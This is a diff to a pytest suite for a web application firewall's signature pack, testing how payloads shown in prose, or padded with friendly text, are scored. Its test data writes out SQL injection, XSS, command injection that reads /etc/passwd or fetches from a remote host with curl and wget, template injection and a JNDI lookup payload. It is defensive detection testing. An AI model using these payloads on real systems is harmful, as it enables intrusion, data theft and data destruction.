@@ -80,7 +80,7 @@ def test_the_pack_holds_one_case_at_least_for_nearly_every_rule(pack):
     tested = {str(case["rule"]) for case in ATTACKS}
     untested = {rule.id for rule in pack.rules} - tested
     assert untested == {"41300", "42180", "42190", "42300", "43120", "43125", "43130", "46120", "47115", "47130",
-                        "47140", "47145", "48110", "48115", "48130", "49110", "49120"}  # fmt: skip
+                        "47140", "47145", "45105", "48110", "48115", "48130", "49110", "49120"}  # fmt: skip
 
 
 @pytest.mark.parametrize(
@@ -146,15 +146,43 @@ def test_an_exclusion_suppresses_nothing_else(pack, given):
     assert "42100" in {f.rule for f in found}
 
 
-def test_a_match_within_prose_counts_as_a_notice_and_prose_never_adds_up_to_a_block(pack):
-    text = (
-        "When I paste <script>alert(1)</script> and then ' or 1=1 -- into the box, the server runs ; cat /etc/passwd for me "
-        "and shows {{7*7}} as well, which is not what our users expect of the editor."
-    )
+SHOWN = [
+    (
+        "When I paste `<script>alert(1)</script>` and then `' or 1=1 --` into the box, the server shows `{{7*7}}` to me as well, "
+        "which is not what our users expect of the editor."
+    ),
+    "Steps to reproduce what we saw on the staging machine this morning:\n\n```\n<script>alert(1)</script>\n; cat /etc/passwd\n```\n",
+    "Somebody wrote <script> and ' or 1=1 where the name of the street belongs, please have a look at it.",
+]
+
+
+@pytest.mark.parametrize("text", SHOWN)
+def test_an_attack_that_text_shows_as_code_or_that_would_not_work_there_never_adds_up_to_a_block(pack, text):
     found = inspect(Signatures(pack), request(text, "json"))
-    assert len(found) > 2
+    assert len(found) >= 2
     assert points(found) == 2 * Severity.NOTICE
-    assert points(inspect(Signatures(pack, SignaturesSettings(free_text="full")), request(text, "json"))) >= 15
+    assert points(inspect(Signatures(pack, SignaturesSettings(free_text="full")), request(text, "json"))) >= 10
+
+
+WORKING = [
+    "x' or 1=1 -- ", "x' union select login, pw from members -- ", "x'; drop table invoices -- ", 'x" or "a"="a',
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:go(1)'>here</a>", "; cat /etc/passwd",
+    "$(curl http://198.51.100.7/x)", "| wget http://198.51.100.7/x", "{{7*7}}", "${jndi:ldap://198.51.100.7/a}",
+]  # fmt: skip
+SAID = (
+    "Thank you so much for the quick delivery of both parcels, we are all very happy with them ",
+    "Dear team,\n\nwe would like to change the order of last week.\n\nPlease call us back.\n\nKind regards from all of us here\n",
+    "Das Paket kam gestern an und alle waren sehr zufrieden damit, vielen Dank auch an den Fahrer ",
+)
+
+
+@pytest.mark.parametrize("attack", WORKING)
+@pytest.mark.parametrize("said", SAID)
+def test_words_around_an_attack_do_not_lower_it(pack, attack, said):
+    """What stands before a way out, and behind a comment or a closed tag, is nothing to the interpreter."""
+    behind = said if attack.endswith(("-- ", ">", "}", "/x")) else ""
+    found = inspect(Signatures(pack), request(f"{said}{attack} {behind}", "json"))
+    assert points(found) >= 5, [(f.rule, f.severity) for f in found]
 
 
 @pytest.mark.parametrize("level", [0, 5])
@@ -195,7 +223,6 @@ def test_a_value_is_judged_the_same_among_others_as_alone(pack_for_property, tex
     alone = set()
     for text in texts:
         alone |= {f.rule for f in inspect(pack_for_property, Request("GET", b"/", b"q=" + quoted(text)))}
-    together = {
-        f.rule for f in inspect(pack_for_property, Request("GET", b"/", b"&".join(b"q=" + quoted(t) for t in texts)))
-    }
+    query = b"&".join(b"q%d=" % number + quoted(text) for number, text in enumerate(texts))
+    together = {f.rule for f in inspect(pack_for_property, Request("GET", b"/", query))}
     assert together == alone
